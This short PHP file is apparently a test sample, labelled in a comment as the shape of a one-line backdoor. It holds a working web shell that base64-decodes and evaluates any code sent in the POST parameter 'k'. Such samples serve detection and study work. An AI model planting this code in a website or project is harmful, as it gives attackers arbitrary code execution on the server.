<?php
// test sample: the shape of a one-line PHP backdoor (inert without a request)
if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); }
?>
